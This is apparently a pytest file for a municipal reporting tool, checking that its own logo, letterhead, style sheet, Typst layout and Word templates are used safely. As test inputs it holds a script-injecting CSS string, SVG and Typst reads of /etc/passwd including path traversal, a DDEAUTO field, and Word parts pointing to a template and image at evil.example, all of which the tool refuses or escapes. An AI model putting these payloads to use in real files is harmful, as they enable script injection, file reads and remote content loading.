"""Templates of a repository's own: what they can change, and what they cannot do."""

import base64
import re
import zipfile
from io import BytesIO
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from pypdf import PdfReader

from fgk.loading.repository import open_repository
from fgk.messages import Translator
from fgk.render.own_templates import TemplateDefect
from fgk.source.tree import Tree
from fgk.stops import Stop
from fgk.usecases.report import Order, report
from repositories import DAY, memory, municipality

DRAWING = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="navy"/></svg>'
)
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def tree(files: dict[str, str | bytes]) -> Tree:
    return memory({**municipality(), **{f"templates/{name}": content for name, content in files.items()}})


def made(files: dict[str, str | bytes], format_: str = "html", kind: str = "status") -> bytes:
    return report(open_repository(tree(files)), "musterstadt", Order(kind, format_, DAY, "de")).content


def pages(content: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(BytesIO(content)).pages)


def defect(files: dict[str, str | bytes], format_: str = "html") -> tuple[str, int, str]:
    with pytest.raises(TemplateDefect) as caught:
        made(files, format_)
    return caught.value.path, caught.value.line, Translator("en")(caught.value.reason)


# -- logo, letterhead, style sheet -------------------------------------------------------------------------------------

HOUSE: dict[str, str | bytes] = {
    "logo.svg": DRAWING,
    "letterhead.txt": "Stadt Musterstadt\nFachbereich <Jugend>\n\nRathausplatz 1\n",
    "style.css": "h1 { color: navy } </style><script>alert(1)</script>",
}


def test_the_html_carries_the_logo_the_letterhead_and_the_style() -> None:
    text = made(HOUSE).decode()
    assert f'<img src="data:image/svg+xml;base64,{base64.b64encode(DRAWING).decode()}" alt="Musterstadt">' in text
    assert "<p>Stadt Musterstadt<br>Fachbereich &lt;Jugend&gt;<br>Rathausplatz 1</p>" in text
    assert "h1 { color: navy } <\\/style>" in text
    assert text.count("</style>") == 1


def test_the_markdown_begins_with_the_letterhead() -> None:
    assert (
        made(HOUSE, "md").decode().startswith("Stadt Musterstadt\\\nFachbereich &lt;Jugend&gt;\\\nRathausplatz 1\n\n# ")
    )


@pytest.mark.parametrize("logo", [("logo.svg", DRAWING), ("logo.png", PIXEL)])
def test_the_pdf_carries_the_logo_and_the_letterhead(logo: tuple[str, bytes]) -> None:
    content = made({"letterhead.txt": "Stadt Musterstadt\nRathausplatz 1", logo[0]: logo[1]}, "pdf")
    assert pages(content).startswith("Stadt Musterstadt\nRathausplatz 1")
    assert content != made({"letterhead.txt": "Stadt Musterstadt\nRathausplatz 1"}, "pdf")


@pytest.mark.parametrize("logo", [("logo.svg", DRAWING), ("logo.png", PIXEL)])
def test_the_word_file_carries_the_logo_and_the_letterhead(logo: tuple[str, bytes]) -> None:
    document = docx.Document(BytesIO(made({"letterhead.txt": "Stadt Musterstadt", logo[0]: logo[1]}, "docx")))
    assert document.paragraphs[1].text == "Stadt Musterstadt"
    assert len(document.paragraphs[0]._p.xpath(".//pic:pic")) == 1  # noqa: SLF001 - python-docx has no list of pictures


@pytest.mark.parametrize(
    ("files", "place"),
    [
        ({"logo.png": b"<svg></svg>"}, ("templates/logo.png", 1)),
        ({"logo.svg": PIXEL}, ("templates/logo.svg", 1)),
        ({"logo.png": PIXEL + bytes(1024 * 1024)}, ("templates/logo.png", 1)),
        ({"letterhead.txt": "a\n\n" * 9}, ("templates/letterhead.txt", 13)),
        ({"style.css": b"a\n\xff"}, ("templates/style.css", 2)),
    ],
    ids=["not-png", "not-svg", "large", "long", "not-utf-8"],
)
def test_what_cannot_be_used_is_named(files: dict[str, str | bytes], place: tuple[str, int]) -> None:
    assert defect(files)[:2] == place


@pytest.mark.parametrize("format_", ["pdf", "docx"])
@pytest.mark.parametrize(
    "logo",
    [
        ("logo.png", PIXEL[:40]),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="/etc/passwd"/></svg>'),
    ],
    ids=["broken", "reaching-out"],
)
def test_a_logo_that_cannot_be_drawn_is_named(logo: tuple[str, bytes], format_: str) -> None:
    assert defect({logo[0]: logo[1]}, format_)[:2] == (f"templates/{logo[0]}", 1)


# -- layouts of PDF ----------------------------------------------------------------------------------------------------


def test_a_layout_of_one_s_own_can_build_on_the_bundled_one() -> None:
    layout = '#import "/fgk/report.typ" as fgk\n#let report(data) = { [Amtliche Fassung]; fgk.report(data) }\n'
    text = pages(made({"report.typ": layout}, "pdf"))
    assert "Amtliche Fassung" in text
    assert "Wo wir stehen" in text


def test_a_layout_of_a_kind_wins_over_that_of_all() -> None:
    files: dict[str, str | bytes] = {
        "report.typ": "#let report(data) = [Für alle]",
        "status.typ": "#let report(data) = [Nur Sachstand: #data.values.name]",
    }
    assert pages(made(files, "pdf")).strip() == "Nur Sachstand: Musterstadt"
    assert pages(made(files, "pdf", "public")).strip() == "Für alle"


def test_a_part_of_the_bundled_layout_can_be_replaced() -> None:
    own = '#import "/fgk/fgk.typ": *\n#let closing(data) = [Ende der Vorlage]\n'
    text = pages(made({"fgk.typ": own}, "pdf"))
    assert "Ende der Vorlage" in text
    assert "Wo wir stehen" in text


@pytest.mark.parametrize(
    ("layout", "line", "says"),
    [
        ("#let report(data) = {\n  nichts\n}", 2, "unknown variable"),
        ("#let report(data) = {", 1, "unclosed"),
        ("\n#let andere(data) = []", 1, "unresolved import"),
        ('\n\n#let report(data) = read("/etc/passwd")', 3, "file not found"),
        ('\n#let report(data) = read("../../../etc/passwd")', 2, "escape"),
        ('\n#import "@preview/cetz:0.3.0": *\n#let report(data) = []', 2, "may not do"),
        ('\n#import "@local/haus:0.3.0": *\n#let report(data) = []', 2, "may not do"),
        ("#let f(n) = f(n + 1)\n#let report(data) = f(1)", 1, "depth"),
        ("#let report(data) = while true {}", 1, "always true"),
        ('#let report(data) = image("/logo.svg")', 1, "alt"),
    ],
)
def test_a_mistake_in_a_layout_is_named_with_its_line(layout: str, line: int, says: str) -> None:
    path, where, text = defect({"report.typ": layout, "logo.svg": DRAWING}, "pdf")
    assert (path, where) == ("templates/report.typ", line)
    assert says in text


def test_a_mistake_in_a_file_that_a_layout_imports_is_named() -> None:
    files: dict[str, str | bytes] = {
        "report.typ": '#import "teile/kopf.typ": kopf\n#let report(data) = kopf',
        "teile/kopf.typ": "\n#let kopf = nichts",
    }
    assert defect(files, "pdf")[:2] == ("templates/teile/kopf.typ", 2)


def test_a_layout_that_does_not_end_is_ended() -> None:
    layout = "#let report(data) = for a in range(100000) { for b in range(100000) { let c = a * b } }"
    with pytest.raises(Stop) as caught:
        made({"report.typ": layout}, "pdf")
    assert "was not done after" in Translator("en")(caught.value.message)


def test_what_a_layout_shows_of_the_data_is_no_markup() -> None:
    files = {**municipality({"municipality.yaml": 'name: "#read(\\"x\\") *Stern*"\nkind: municipality\n'})}
    files["templates/status.typ"] = "#let report(data) = [#data.values.name]"
    order = Order("status", "pdf", DAY, "de")
    assert '#read("x") *Stern*' in pages(report(open_repository(memory(files)), "musterstadt", order).content)


# -- Word documents ----------------------------------------------------------------------------------------------------


def document(change: str) -> bytes:
    """Give a Word document with something in it that acts by itself."""
    made = docx.Document()
    made.add_paragraph("{{ content }}")
    if change == "field":
        made.paragraphs[0].add_run()._r.append(  # noqa: SLF001 - python-docx has no fields
            docx.oxml.parse_xml(
                '<w:instrText xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                ' DDEAUTO c:\\\\windows "x" </w:instrText>'
            )
        )
    if change == "template":
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        made.part.relate_to("http://evil.example/x.dotm", kind, is_external=True)
    if change == "picture":
        made.part.relate_to("http://evil.example/x.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    if change == "link":
        made.part.relate_to("https://example.org/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    written = BytesIO()
    made.save(written)
    if change != "macros":
        return written.getvalue()
    again = BytesIO()
    with zipfile.ZipFile(written) as old, zipfile.ZipFile(again, "w") as new:
        for entry in old.infolist():
            text = old.read(entry)
            if entry.filename == "[Content_Types].xml":
                text = text.replace(
                    b"</Types>",
                    b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if entry.filename == "word/_rels/document.xml.rels":
                relation = b"http://schemas.microsoft.com/office/2006/relationships/vbaProject"
                text = re.sub(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" Type="' + relation + b'" Target="vbaProject.bin"/></Relationships>',
                    text,
                )
            new.writestr(entry, text)
        new.writestr("word/vbaProject.bin", b"macro")
    return again.getvalue()


@pytest.mark.parametrize(
    ("change", "says"),
    [("field", "reads other files"), ("template", "outside"), ("picture", "outside"), ("macros", "macros")],
)
def test_a_word_document_that_acts_by_itself_is_refused(change: str, says: str) -> None:
    path, _, text = defect({"report.docx": document(change)}, "docx")
    assert path == "templates/report.docx"
    assert says in text


def test_a_word_document_may_have_links() -> None:
    content = made({"report.docx": document("link")}, "docx")
    assert "Wo wir stehen" in [one.text for one in docx.Document(BytesIO(content)).paragraphs]


# -- all files ---------------------------------------------------------------------------------------------------------


def test_too_many_and_too_large_files_are_refused(tmp_path: Path) -> None:
    assert "500" in defect({f"{number}.txt": "" for number in range(501)})[2]
    assert "32" in defect({f"{number}.txt": bytes(4 * 1024 * 1024) for number in range(9)})[2]
    assert defect({"gross.txt": bytes(4 * 1024 * 1024 + 1)})[0] == "templates/gross.txt"
    assert not list(tmp_path.iterdir())


def test_files_of_other_programs_do_not_count() -> None:
    assert made({".DS_Store": b"\xff"}) == made({})


def test_a_word_document_without_the_usual_styles_is_enough() -> None:
    made_by_hand = docx.Document()
    for name in ("Heading 1", "Heading 2", "Caption", "Table Grid", "List Bullet", "Intense Quote"):
        made_by_hand.styles[name].delete()
    made_by_hand.add_paragraph("{{ content }}")
    written = BytesIO()
    made_by_hand.save(written)
    found = docx.Document(BytesIO(made({"report.docx": written.getvalue()}, "docx")))
    heading = next(one for one in found.paragraphs if one.text == "Wo wir stehen")
    assert heading.style is not None
    assert heading.style.name == "Heading 1"


# -- the page that describes them --------------------------------------------------------------------------------------


def example(language: str) -> str:
    text = (Path(__file__).parent.parent / "docs/templates.md").read_text("utf-8")
    found = re.search(rf"```{language}\n(.*?)```", text, re.DOTALL)
    assert found is not None
    return found[1]


def test_the_examples_of_the_documentation_work() -> None:
    text = made({"status.html.j2": example("jinja")}).decode()
    assert "<p>Stadt Musterdorf · Rathaus</p>" in text
    assert "<p>Fragen beantwortet" in text
    first = PdfReader(BytesIO(made({"report.typ": example("typst")}, "pdf"))).pages[0].extract_text()
    assert first.startswith("Stadt Musterdorf")
    assert "Musterstadt" in first
